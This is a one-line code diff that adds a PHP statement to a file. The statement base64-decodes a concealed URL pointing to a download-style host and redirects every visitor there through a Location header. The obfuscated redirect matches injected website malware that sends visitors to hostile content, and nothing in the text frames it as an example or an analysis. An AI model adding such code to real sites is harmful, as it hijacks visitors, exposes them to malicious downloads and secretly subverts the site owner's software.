@@ -1,0 +1,1 @@
+<?php $u = base64_decode('aHR0cHM6Ly93Z2V0Y2RuLWZpbGVzLmNvbS9waHA='); header('Location: ' . $u);
